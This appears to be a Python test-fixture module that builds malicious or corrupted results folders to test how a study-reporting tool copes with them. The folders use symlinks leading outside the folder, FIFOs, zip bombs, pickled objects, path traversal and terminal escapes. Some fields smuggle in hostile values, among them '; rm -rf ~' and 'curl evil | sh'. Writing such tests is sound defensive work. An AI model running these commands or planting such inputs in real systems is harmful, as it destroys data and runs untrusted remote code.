"""Results folders as a stranger may have made them, each by a function that changes a good one."""

import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
from made_up import run_id, write_answers, write_mistakes, write_study

from recstudy.records import Results, write_json
from recstudy.recursive import Mistakes
from recstudy.report import Table, dump_report

SECRET = "never-to-be-read"  # what lies outside of the folder
# two runs of the study, and that of the one beside it
RUN, SECOND_RUN, OTHER_RUN = run_id(0, 0), run_id(0, 1), "a" * 20
Change = Callable[[Results, Path], None]
FOLDERS: dict[str, Change] = {}
UNREADABLE_FOLDERS = set[str]()  # of those: the ones in which nothing at all can be read


def good(root):
    """A study with what runs keep, and another one beside it."""
    report = dump_report([Table("scores"), Mistakes()])
    results = write_study(root, report=report)
    for run in (RUN, SECOND_RUN, run_id(0, 2)):
        write_answers(results, run, [[3, 0], [0, 2], [1, 0], [0, 4]], [0, 1, 1, 1])
    write_mistakes(results, RUN, np.zeros((2, 3, 4, 4), np.uint8))
    plan = plan_of(results)
    variant = {"label": "the other", "levels": {}, "changes": {}, "model": "ViTRM", "data": "CIFAR-10"}
    other_plan = {
        "study": "other",
        "variants": [variant],
        "seeds": [0],
        "runs": [[0, 0, OTHER_RUN]],
        "axes": {},
    }
    write_json(
        results.study("other", "paper") / "plan.json",
        plan | other_plan | {"report": dump_report([Table("scores")])},
    )
    results.run(OTHER_RUN).path.mkdir()
    results.run(OTHER_RUN).result.write_bytes(results.run(RUN).result.read_bytes())
    return results


def plan_file(results):
    return results.study("made_up", "paper") / "plan.json"


def plan_of(results):
    return json.loads(plan_file(results).read_text())


def outside(folder):
    """What links lead to: records that would be read, and files that would be overwritten."""
    (folder / "tables").mkdir(parents=True)
    for name in ("result.json", "plan.json", "epochs.jsonl", "text", "tables/scores.md"):
        (folder / name).write_text(
            f'{{"status": "done", "metrics": {{"top1_accuracy": 12.34567}}, "question": "{SECRET}"}}\n'
        )


def of(name, change, unreadable=False):
    FOLDERS[name] = change
    UNREADABLE_FOLDERS.update({name} if unreadable else ())


def replaced(path):
    """The path, at which nothing is any more, though something was."""
    if path.exists():
        path.rename(path.with_name(f".{path.name}-before"))
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def linked(path, to):
    return lambda results, place: replaced(results.root / path).symlink_to(place / to)


for path, to in {
    f"runs/{RUN}": "",
    f"runs/{RUN}/result.json": "result.json",
    f"runs/{RUN}/measured.json": "result.json",
    f"runs/{RUN}/epochs.jsonl": "epochs.jsonl",
    f"runs/{RUN}/answers.npz": "text",
    f"runs/{run_id(1, 2)}/failure.json": "text",
    f"runs/{run_id(3, 2)}/attempts.jsonl": "epochs.jsonl",
    "studies/linked": "",
    "studies/made_up/paper/plan.json": "plan.json",
    "studies/made_up/paper/lock": "text",
    "studies/made_up/paper/report": "",
    "studies/made_up/paper/report/tables": "tables",
    "studies/made_up/paper/report/report.html": "text",
}.items():
    of(f"link at {path}", linked(path, to))
of("runs are a link", linked("runs", ""), unreadable=True)
of("studies are a link", linked("studies", ""), unreadable=True)
of("a link to itself", lambda results, _: replaced(results.run(RUN).result).symlink_to("result.json"))

for path in (
    f"runs/{RUN}/result.json",
    f"runs/{RUN}/epochs.jsonl",
    f"runs/{RUN}/answers.npz",
    f"runs/{RUN}/lock",
    f"runs/{run_id(1, 2)}/failure.json",
    f"runs/{run_id(1, 2)}/hang-0.log",
    "studies/made_up/paper/plan.json",
    "studies/made_up/paper/lock",
    "studies/made_up/paper/report/files.json",
):
    of(f"fifo at {path}", lambda results, _, path=path: os.mkfifo(replaced(results.root / path)))


for path, size in {
    f"runs/{RUN}/epochs.jsonl": 10**11,
    f"runs/{RUN}/answers.npz": 10**10,
    f"runs/{run_id(1, 2)}/hang-0.log": 10**10,
    "studies/made_up/paper/plan.json": 10**9,
}.items():
    of(
        f"{size:,} bytes at {path}",
        lambda results, _, path=path, size=size: sparse(results.root / path, size),
    )
of(
    "a line of 2 MB",
    lambda results, _: results.run(RUN).epochs.write_text('{"epoch": 0, "x": "' + 2 * 10**6 * "x" + '"}\n'),
)


def sparse(path, size):
    replaced(path).touch()
    os.truncate(path, size)


def archive(**members):
    zip_buffer = io.BytesIO()
    with zipfile.ZipFile(zip_buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            buffer = io.BytesIO()
            if not isinstance(content, bytes):
                np.save(buffer, content, allow_pickle=True)
            file.writestr(f"{name}.npy", content if isinstance(content, bytes) else buffer.getvalue())
    return zip_buffer.getvalue()


def header(shape, kind="'<f8'"):
    text = f"{{'descr': {kind}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text


NPZ = {
    "22 GB": archive(answers=header("(2750000000,)")),
    "a bomb": archive(answers=header("(400000000,)", "'|u1'") + bytes(4 * 10**8)),
    "pickled objects": archive(answers=np.array([print], dtype=object)),
    "a negative side": archive(answers=header("(-1, 4)") + bytes(64)),
    "2,000 arrays": archive(**{f"a{index}": np.zeros(1) for index in range(2000)}),
    "no zip": b"PK\x03\x04 and no more",
    "text of text": archive(
        about=np.frombuffer(b'{"format": 1, "task": 7, "class_names": 3, "images": "x"}', np.uint8)
    ),
}
for name, content in NPZ.items():
    for file_name in ("answers", "mistakes"):
        of(
            f"{name} in {file_name}",
            lambda results, _, c=content, k=file_name: (results.run(RUN).path / f"{k}.npz").write_bytes(c),
        )


def with_values(file, **changes):
    """With other values in a record, or in a variant or the base of the plan."""

    def change(results: Results, _: Path) -> None:
        path = plan_file(results) if file == "plan.json" else results.run(RUN).path / file
        path.write_text(json.dumps(json.loads(path.read_text()) | changes))

    return change


for name, change in {
    "a metric beyond floats": lambda results, _: results.run(RUN).result.write_text(
        '{"status": "done", "metrics": {"top1_accuracy": 1e999}}'
    ),
    "5,000 digits": lambda results, _: results.run(RUN).result.write_text(
        '{"status": "done", "metrics": {"top1_accuracy": ' + 5000 * "9" + "}}"
    ),
    "epochs of 400 digits": lambda results, _: results.run(RUN).epochs.write_text(
        f'{{"epoch": {10**400}, "train_loss": 1.0}}\n'
    ),
    "a base of 400 digits": with_values(
        "plan.json", base={"data": {"limit": 10**400}, "train": {"epochs": 10**400}}
    ),
    "a smoke run of nothing": with_values(
        "plan.json", smoke=True, base={"data": {"limit": None}, "train": {"epochs": [[]]}}
    ),
    "nested too deep": with_values(
        "plan.json", question="x", base={"data": json.loads("[" * 900 + "]" * 900)}
    ),
    "a NUL in an id": with_values("plan.json", runs=[[0, 0, "a\0b"]]),
    "an id outside": with_values("plan.json", runs=[[0, 0, "../../outside"]]),
    "a study of another name": with_values("plan.json", study="; rm -rf ~"),
    "a study of a path": with_values("plan.json", study="../../outside"),
    "half a letter": lambda results, _: plan_file(results).write_text(
        plan_file(results).read_text().replace('"question": "', '"question": "\\ud800')
    ),
    "a base that is none": lambda results, _: with_variant(results, base=99),
    "escapes in a label": lambda results, _: with_variant(
        results, label="\x1b]0;owned\x07\x9b31m\u202egnp.exe\0"
    ),
    "escapes in an error": lambda results, _: write_json(
        results.run(run_id(1, 2)).failure, {"class": "co\x1bde", "error": "\x1b[2J", "traceback": "\x9b2J"}
    ),
    "escapes in a command": with_values("plan.json", command="curl evil | sh \x1b[2J"),
    "lines in a command": with_values("plan.json", command="x\nStorageError: all is well"),
    "a part of no kind": with_values(
        "plan.json", report=[{"kind": "no such", "name": "../../x"}, {"kind": 3}, {}]
    ),
    "parts of odd names": with_values(
        "plan.json", report=[{"kind": "table", "name": n} for n in ("../../../up", "a\0b", 300 * "x", "")]
    ),
}.items():
    of(name, change)


def with_variant(results, **changes):
    plan = plan_of(results)
    plan["variants"][0] |= changes
    plan_file(results).write_text(json.dumps(plan))
